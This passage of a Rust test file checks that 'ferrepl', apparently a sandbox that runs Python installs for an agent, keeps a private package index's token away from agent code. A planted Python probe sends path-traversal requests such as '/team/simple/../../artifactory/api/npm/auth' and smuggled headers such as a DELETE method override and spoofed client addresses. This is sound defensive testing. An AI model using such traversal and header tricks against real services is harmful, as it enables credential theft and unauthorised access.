    for r in &records {
        assert!(
            r.get("payload_error").is_none(),
            "the payload failed in the job: {r}"
        );
    }

    // (1) No secret anywhere the job's code can look, not even the user.
    assert_no_secret(&dump, "what agent code in the install job can read");
    assert!(
        !dump.contains(&format!("//{USER}")),
        "the install job sees the index URL with its userinfo: {}",
        dump_path.display()
    );
    assert!(
        !dump.contains("PRIVATE KEY"),
        "the install job can read a private key (ferrepl's CA's?): {}",
        dump_path.display()
    );

    // (2) pip's command line holds the index URL, without userinfo.
    let urls: Vec<String> = records
        .iter()
        .flat_map(command_lines)
        .filter_map(|words| index_url_in(&words))
        .collect();
    assert!(
        !urls.is_empty(),
        "no command line in the job showed --index-url: the payload never saw pip's"
    );
    let expected = [index.url(), format!("{}/", index.url())];
    for url in &urls {
        assert!(
            expected.contains(url),
            "the job's --index-url is {url:?}, not the index URL without credentials {:?}",
            index.url()
        );
    }

    // (3) Writing to the index through the proxy: 405 from ferrepl, and
    // nothing but GET and HEAD ever reached the index.
    for r in &records {
        for method in ["POST", "PUT"] {
            let got = &r["net"][method];
            assert_eq!(
                got.as_u64(),
                Some(405),
                "a {method} to the index from the install job was answered {got} \
                 (expected 405 from ferrepl's proxy); payload's proxy/CA: {}",
                r["used"]
            );
        }
    }
    let log = index.requests();
    for line in request_lines(&log) {
        assert!(
            line.starts_with("GET ") || line.starts_with("HEAD "),
            "a {line:?} reached the index\n{}",
            index.diagnostics()
        );
    }

    // The planted code did not stop the install: it still works.
    assert_installed(&last, &server, &index);
    let imported = imported_value(&server, first.structured["status"] != "running").await;
    imported.assert_ok();
    assert_eq!(
        imported.value(),
        Some(PKG_VALUE.to_string().as_str()),
        "{imported:#?}"
    );
}

// ------------------------------------------------------------ C

/// Runs ferrepl with `args` and `envs` until it exits: it must refuse to
/// start (non-zero, within REFUSAL_TIMEOUT). Its stderr.
async fn refused(args: &[&str], envs: &[(&str, &str)]) -> String {
    let workdir = tempfile::tempdir().expect("workdir");
    let mut cmd = server_command();
    cmd.arg("--workdir")
        .arg(workdir.path())
        .args(args)
        .envs(envs.iter().copied())
        .stdin(Stdio::piped())
        .kill_on_drop(true);
    let out = tokio::time::timeout(REFUSAL_TIMEOUT, cmd.output())
        .await
        .unwrap_or_else(|_| panic!("{args:?} {envs:?}: ferrepl neither refused nor exited"))
        .expect("run ferrepl");
    let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
    assert!(
        !out.status.success(),
        "ferrepl must refuse to start with {args:?}; it exited {}:\n{stderr}",
        out.status
    );
    stderr
}

/// Attacks the operator's configuration: credentials that would cross the
/// network in clear text (an `http://` index), or land in the job after all
/// (`--network on`: the installer talks to the index itself, no proxy to
/// add them). Both are refused at start, saying why, without echoing the
/// token into the log. An `http://` index without credentials still starts.
#[tokio::test]
async fn a_credentialed_index_over_http_or_with_network_on_is_refused_at_start() {
    // Nothing listens at port 9: a start must not need the index.
    let clear = format!("http://{USER}:{TOKEN}@localhost:9/simple");
    let stderr = refused(&[], &[("PIP_INDEX_URL", &clear)]).await;
    let lower = stderr.to_lowercase();
    assert!(
        lower.contains("credential") && lower.contains("https"),
        "the refusal says credentials are only sent over https:\n{stderr}"
    );
    assert_no_secret(&stderr, "the refusal of an http:// index");

    let tls = format!("https://{USER}:{TOKEN}@localhost:9/simple");
    let stderr = refused(&["--network", "on"], &[("PIP_INDEX_URL", &tls)]).await;
    assert!(
        stderr.contains("--network packages"),
        "the refusal names --network packages:\n{stderr}"
    );
    assert_no_secret(&stderr, "the refusal of --network on");

    // Control: the refusals are about the credentials. Without them an
    // http:// index starts, and so does --network on.
    for (args, url) in [
        (&[][..], "http://localhost:9/simple"),
        (&["--network", "on"][..], "https://localhost:9/simple"),
    ] {
        let mut server = StdioServer::start_with_env(args, &[("PIP_INDEX_URL", url)]).await;
        let status = server
            .call("python_sessions", json!({ "action": "status" }))
            .await;
        assert!(!status.is_error, "{args:?} {url}: {status:#?}");
        server.assert_alive();
    }
}

/// Attacks the parsing of credentials that do not parse: a raw `#` in a
/// password (`https://alice:S3cr#tT0ken@host/simple`) ends the authority
/// for a URL parser (the rest is a fragment), so no credentials were found
/// and the URL went to the install job as written, password and all, in
/// pip's argv and in what pip printed. ferrepl must refuse to start, say
/// how to write it (percent-encoded), and not echo the password pieces;
/// the same for uv's named form and an extra index.
#[tokio::test]
async fn credentials_that_cannot_be_taken_out_of_the_url_are_refused_at_start() {
    // Nothing listens at port 9: a start must not need the index.
    let raw = format!("https://{USER}:S3cr#tT0ken@localhost:9/simple");
    let named = format!("internal={raw}");
    for (var, value) in [
        ("PIP_INDEX_URL", raw.as_str()),
        ("PIP_EXTRA_INDEX_URL", raw.as_str()),
        ("UV_INDEX", named.as_str()),
    ] {
        let stderr = refused(&[], &[(var, value)]).await;
        assert!(
            stderr.to_lowercase().contains("percent-encod"),
            "{var}: the refusal says to percent-encode the credentials:\n{stderr}"
        );
        for piece in ["S3cr#tT0ken", "S3cr", "tT0ken", "//alice"] {
            assert!(
                !stderr.contains(piece),
                "{var}: the refusal echoes {piece:?} of the credentials:\n{stderr}"
            );
        }
    }
}

// ------------------------------------------------------------ D

/// What the agent reads of a finished install from the credentialed index
/// (the call's result, the job's final result, its full output, the
/// status) and ferrepl's log: none holds the token, its base64 or the
/// index URL with its userinfo; pip says it looks in `index_url`. Also the
/// import of the package.
async fn assert_clean_install(
    server: &StdioServer,
    index: &TestIndex,
    index_url: &str,
    first: &ToolOutput,
    last: &ToolOutput,
) {
    let job = first.str_field("job").to_string();
    let output = server.call("python_output", json!({ "job": job })).await;
    assert!(!output.is_error, "python_output of the job: {output:#?}");
    let status = server
        .call("python_sessions", json!({ "action": "status" }))
        .await;
    assert!(!status.is_error, "{status:#?}");
    for (out, what) in [
        (first, "the python_install result"),
        (last, "the install job's final result"),
        (&output, "the install job's full output"),
        (&status, "python_sessions status"),
    ] {
        let text = whole(out);
        assert_no_secret(&text, what);
        assert!(
            !text.contains(&format!("//{USER}")),
            "{what} shows the index URL with its userinfo: {out:#?}"
        );
    }
    assert_no_secret(&server.stderr_log(), "ferrepl's stderr log");
    if output.text.contains("Looking in indexes:") {
        assert!(
            output.text.contains(index_url),
            "pip looks in {index_url} (no userinfo, no name): {output:#?}"
        );
    }
    assert_installed(last, server, index);
    let imported = imported_value(server, first.structured["status"] != "running").await;
    imported.assert_ok();
    assert_eq!(
        imported.value(),
        Some(PKG_VALUE.to_string().as_str()),
        "{imported:#?}"
    );
}

/// The install through an index named the uv way in `var`
/// (`internal=https://alice:TOKEN@localhost:PORT/simple`), no
/// PIP_INDEX_URL: works, with the credentials ferrepl added, and the token
/// stays out of every result.
async fn install_through_a_uv_named_index(var: &str) {
    let index = TestIndex::start().await;
    let entry = format!("internal={}", index.url_with_credentials());
    let server = start_server_with(&index, &[(var, &entry)]).await;
    // Pinned: as an extra index (UV_INDEX) it is looked in besides PyPI.
    let (first, last) = install(&server, &[&format!("{PKG}==1.0")]).await;
    assert_clean_install(&server, &index, &index.url(), &first, &last).await;
    let lines = index.requests();
    for needed in [
        format!("GET /simple/{PKG}/ auth=ok"),
        format!("GET /files/{WHEEL} auth=ok"),
    ] {
        assert!(
            lines.contains(&needed),
            "the index never got {needed:?}: ferrepl did not add the credentials of {var}\n{}",
            index.diagnostics()
        );
    }
}

/// Attacks the parsing of uv's named indexes: in
/// `UV_INDEX=internal=https://alice:TOKEN@host/simple` the index is named
/// `internal`. Taken whole as a URL, `internal=https://...` has no
/// userinfo a URL parser finds, so the credentials stayed in it and pip
/// got the entry verbatim, token included, and printed it (`Looking in
/// indexes: ..., internal=https://alice:TOKEN@...`: pip masks passwords
/// only in what it parses as a URL). The name must be split off and the
/// credentials taken out as PIP_INDEX_URL's are. (PyPI stays the main
/// index here: the install looks there too.)
#[tokio::test]
async fn uv_index_named_form_keeps_the_token_out_of_the_install_job() {
    install_through_a_uv_named_index("UV_INDEX").await;
}

/// The same attack through `UV_DEFAULT_INDEX=internal=https://alice:TOKEN@...`,
/// which replaces PyPI (pip's `--index-url`).
#[tokio::test]
async fn uv_default_index_named_form_keeps_the_token_out_of_the_install_job() {
    install_through_a_uv_named_index("UV_DEFAULT_INDEX").await;
}

// ------------------------------------------------------------ E

/// An install from an index whose connections end as `connections` says
/// works, with the credentials ferrepl added.
async fn install_through_closing_index(connections: Connections) {
    let index = TestIndex::start_with(connections).await;
    index.assert_demands_credentials();
    let server = start_server(&index).await;
    let (first, last) = install(&server, &[PKG]).await;
    assert_clean_install(&server, &index, &index.url(), &first, &last).await;
    let lines = index.requests();
    for needed in [
        format!("GET /simple/{PKG}/ auth=ok"),
        format!("GET /files/{WHEEL} auth=ok"),
    ] {
        assert!(
            lines.contains(&needed),
            "the index never got {needed:?}\n{}",
            index.diagnostics()
        );
    }
}

/// Attacks availability: an index (or the balancer in front of it) that
/// closes the connection after every answer (`Connection: close`).
/// ferrepl ends the installer's tunnel and keeps a connection to the index
/// for it; the close was not passed on, so the installer kept its tunnel,
/// and its second request on it (the wheel, after the project page) got
/// 502 from ferrepl, the connection to the index being gone: the install
/// failed. Now the close reaches the installer, which opens a new tunnel.
#[tokio::test]
async fn an_index_that_closes_every_connection_still_serves_installs() {
    install_through_closing_index(Connections::Close).await;
}

/// The same with an index that closes after every answer without saying
/// so (an idle timeout between the installer's requests): the installer
/// keeps its tunnel and sends its next request on it, so ferrepl must
/// connect to the index again (before: 502, the install failed).
#[tokio::test]
async fn an_index_that_drops_every_connection_silently_still_serves_installs() {
    install_through_closing_index(Connections::Drop).await;
}

// ------------------------------------------------------------ F

/// Request headers the job sends along with its probe of a page under the
/// index's root: each could make the index (or a front of it) act on
/// something else than the GET ferrepl checked (a method override, a
/// rewritten URL, a spoofed client address, a session cookie).
const SMUGGLED: &[(&str, &str)] = &[
    ("X-HTTP-Method-Override", "DELETE"),
    ("X-Forwarded-For", "1.2.3.4"),
    ("Forwarded", "for=1.2.3.4"),
    ("X-Original-URL", "/artifactory/api/npm/auth"),
    ("X-Rewrite-URL", "/artifactory/api/npm/auth"),
    ("Cookie", "SESSION=for-alice"),
];

/// The npm login beside the index, outside its root `/team/`.
const NPM_AUTH: &str = "/artifactory/api/npm/auth";

/// The probes' paths that climb out of the index's root to the npm login
/// with dot segments, plain, percent-escaped, or behind an escaped slash:
/// each must be refused (400) by ferrepl, never sent on.
const CLIMBS: &[&str] = &[
    "/team/simple/../../artifactory/api/npm/auth",
    "/simple/../artifactory/api/npm/auth",
    "/team/./../artifactory/api/npm/auth",
    "/team/simple/%2e%2e/%2e%2e/artifactory/api/npm/auth",
    "/simple/%2E%2E/artifactory/api/npm/auth",
    "/team/..%2fartifactory/api/npm/auth",
];

/// Planted in the install job (see `plant`): GETs through the proxy, trusting the
/// job's CA bundle (SSL_CERT_FILE), each of `__PROBES__` (`[name, path,
/// headers]`) at `__ORIGIN__`, and appends one JSON line to `__DUMP__`
/// with each answer's status, body, Set-Cookie headers and all headers.
/// It never prints.
const STEER_PY: &str = r##"
import json, os, ssl, urllib.error, urllib.request

DUMP = __DUMP__
ORIGIN = __ORIGIN__
PROBES = __PROBES__

def _run():
    env = os.environ
    proxy = env.get("HTTPS_PROXY") or env.get("https_proxy")
    if not proxy:
        return
    cafile = env.get("SSL_CERT_FILE")
    rec = {"pid": os.getpid(), "proxy": proxy, "cafile": cafile, "got": {}}
    ctx = ssl.create_default_context(cafile=cafile)
    opener = urllib.request.build_opener(
        urllib.request.ProxyHandler({"https": proxy, "http": proxy}),
        urllib.request.HTTPSHandler(context=ctx))
    for name, path, headers in PROBES:
        req = urllib.request.Request(ORIGIN + path, headers=headers)
        try:
            try:
                r = opener.open(req, timeout=15)
            except urllib.error.HTTPError as e:
                r = e
            with r:
                status, h, body = r.status, r.headers, r.read(1 << 16)
        except Exception as e:
            rec["got"][name] = {"error": type(e).__name__ + ": " + str(e)}
            continue
        rec["got"][name] = {
            "status": status,
            "body": body.decode("utf-8", "replace"),
            "set_cookie": (h.get_all("Set-Cookie") or []) + (h.get_all("Set-Cookie2") or []),
            "headers": [f"{k}: {v}" for k, v in h.items()],
        }
    with open(DUMP, "a") as f:
        f.write(json.dumps(rec) + "\n")

try:
    _run()
except BaseException as e:
    try:
        with open(DUMP, "a") as f:
            f.write(json.dumps({"payload_error": repr(e)}) + "\n")
    except BaseException:
        pass
"##;

/// Attacks the reach of the credentials from inside the install job, with
/// an index at a sub-path (`https://alice:TOKEN@localhost:PORT/team/simple`,
/// root `/team/`) on a host that also serves an npm login
/// (`/artifactory/api/npm/auth`) which answers the credentials
/// (`_auth = base64(user:password)`) and a session cookie to whoever sends
/// them. Code planted in the job asks through the proxy for:
///
/// - the login directly: it must reach the host without the credentials
///   (401 from the index, logged `auth=missing`), also when the job sends
///   an `Authorization` of its own. (Before: the credentials went to every
///   path on the host, and the login handed them back in clear.)
/// - the login by climbing out of the root with dot segments, escaped or
///   not (`/team/simple/../../artifactory/...`, `%2e%2e`, `..%2f`): 400
///   from ferrepl, never sent on (a server that resolves them would serve
///   the login to a request that carried the credentials).
/// - a project page under the root, with headers that make servers act on
///   something else than the plain GET (`X-HTTP-Method-Override: DELETE`,
///   `X-Forwarded-For`, `X-Original-URL`, a `Cookie`): the page comes back
///   (the credentials go where they belong) without the index's
///   `Set-Cookie` (a session is the credentials by another name), and none
///   of those headers reaches the index (an allow-list, not a deny-list).
///
/// Nothing the job got holds the token, its base64 or a session cookie;
/// and the install itself works from the sub-path index.
#[tokio::test]
async fn agent_code_in_the_install_job_cannot_steer_the_credentials_outside_the_index() {
    let index = TestIndex::start().await;
    let team_url = index.team_url_with_credentials();
    let server = start_server_with(&index, &[("PIP_INDEX_URL", &team_url)]).await;
    let from = index.requests().len();
    let headers_from = index.header_lines().len();

    let mallory = format!("Basic {}", b64_encode(b"mallory:guess"));
    let page = format!("/team/simple/{PKG}/?probe=headers");
    let smuggled: serde_json::Map<String, Value> = SMUGGLED
        .iter()
        .map(|(k, v)| (k.to_string(), json!(v)))
        .collect();
    let mut probes = vec![
        json!(["outside", NPM_AUTH, {}]),
        json!(["outside_mallory", NPM_AUTH, { "Authorization": mallory }]),
        json!(["page", page, smuggled]),
    ];
    for (i, climb) in CLIMBS.iter().enumerate() {
        probes.push(json!([format!("climb{i}"), climb, {}]));
    }
    let payload = STEER_PY
        .replace("__ORIGIN__", &py(index.origin()))
        .replace("__PROBES__", &Value::Array(probes).to_string());
    let dump_in_sandbox = plant(&server, &payload, "steer-dump.jsonl").await;

    let (first, last) = install(&server, &[PKG]).await;

    let dump_path = server.workdir.path().join("steer-dump.jsonl");
    let dump = std::fs::read_to_string(&dump_path).unwrap_or_default();
    let records: Vec<Value> = dump
        .lines()
        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("a dump line ({e}): {l}")))
        .collect();
    assert!(
        !records.is_empty(),
        "the planted code never ran in the install job (no dump at {}, {dump_in_sandbox} in \
         the sandbox): {last:#?}\nserver stderr:\n{}",
        dump_path.display(),
        server.stderr_log()
    );
    let diagnostics = || {
        format!(
            "dump:\n{dump}\n{}\nheader log:\n{}",
            index.diagnostics(),
            index.header_lines().join("\n")
        )
    };
    for r in &records {
        assert!(
            r.get("payload_error").is_none(),
            "the payload failed in the job: {r}"
        );
        let got = &r["got"];
        // Outside the root: sent on, without the credentials.
        for name in ["outside", "outside_mallory"] {
            assert_eq!(
                got[name]["status"].as_u64(),
                Some(401),
                "{name}: the npm login outside the index's root answered {} \
                 (401 from the index: no credentials were sent)\n{}",
                got[name],
                diagnostics()
            );
        }
        // Climbing out: refused by ferrepl.
        for (i, climb) in CLIMBS.iter().enumerate() {
            let got = &got[format!("climb{i}")];
            assert!(
                got["status"].as_u64() == Some(400)
                    && got["body"]
                        .as_str()
                        .is_some_and(|b| b.starts_with("ferrepl:")),
                "{climb}: expected 400 from ferrepl, got {got}\n{}",
                diagnostics()
            );
        }
        // Under the root: the page, with the credentials ferrepl added.
        let got_page = &got["page"];
        assert!(
            got_page["status"].as_u64() == Some(200)
                && got_page["body"].as_str().is_some_and(|b| b.contains(WHEEL)),
            "the project page under the index's root: {got_page}\n{}",
            diagnostics()
        );
        // No answer hands a session to the job.
        if let Some(all) = got.as_object() {
            for (name, answer) in all {
                assert_eq!(
                    answer["set_cookie"].as_array().map(Vec::len),
                    Some(0),
                    "{name}: a Set-Cookie reached the install job: {answer}"
                );
            }
        }
    }
    assert_no_secret(&dump, "what the job's probes got back");
    for leaked in ["for-alice", "_auth"] {
        assert!(
            !dump.contains(leaked),
            "the job got {leaked:?} (a session or the npm login's answer):\n{dump}"
        );
    }

    // What reached the index.
    let log = index.requests();
    let seen = request_lines(&log[from..]);
    let outside = format!("GET {NPM_AUTH} auth=missing");
    for line in &seen {
        let lower = line.to_ascii_lowercase();
        assert!(
            !line.contains("auth=bad"),
            "the job's own Authorization reached the index: {line:?}\n{}",
            diagnostics()
        );
        assert!(
            !(lower.contains("/..")
                || lower.contains("/./")
                || lower.contains("%2e")
                || lower.contains("%2f")),
            "a path climbing out of the root reached the index: {line:?}\n{}",
            diagnostics()
        );
        assert!(
            !line.contains("artifactory") || **line == outside,
            "the npm login got something else than a request without credentials: \
             {line:?}\n{}",
            diagnostics()
        );
    }
    assert_eq!(
        seen.iter().filter(|l| ***l == outside).count(),
        2 * records.len(),
        "each run of the probes reached the login twice, without credentials\n{}",
        diagnostics()
    );
    let page_line = format!("GET {page} auth=ok");
    assert_eq!(
        seen.iter().filter(|l| ***l == page_line).count(),
        records.len(),
        "the page under the root got the credentials\n{}",
        diagnostics()
    );
    for needed in [
        format!("GET /team/simple/{PKG}/ auth=ok"),
        format!("GET /team/files/{WHEEL} auth=ok"),
    ] {
        assert!(
            seen.contains(&&needed),
            "the install's {needed:?} never reached the index\n{}",
            diagnostics()
        );
    }

    // The smuggled headers never arrived (nor any other the job sent that
    // is not on the allow-list).
    let header_lines = index.header_lines();
    let header_lines = &header_lines[headers_from..];
    let probed: Vec<&String> = header_lines
        .iter()
        .filter(|l| l.starts_with(&format!("GET {page} ")))
        .collect();
    assert_eq!(
        probed.len(),
        records.len(),
        "the header log shows the probe of the page\n{}",
        diagnostics()
    );
    for line in header_lines {
        let names = line.rsplit(' ').next().unwrap_or_default();
        for name in names.split(',') {
            assert!(
                !SMUGGLED.iter().any(|(h, _)| h.eq_ignore_ascii_case(name)),
                "the job's {name:?} header reached the index: {line:?}\n{}",
                diagnostics()
            );
        }
    }

    // And the install from the sub-path index works, the token unseen.
    let team_url = format!("{}/team/simple", index.origin());
    assert_clean_install(&server, &index, &team_url, &first, &last).await;
}
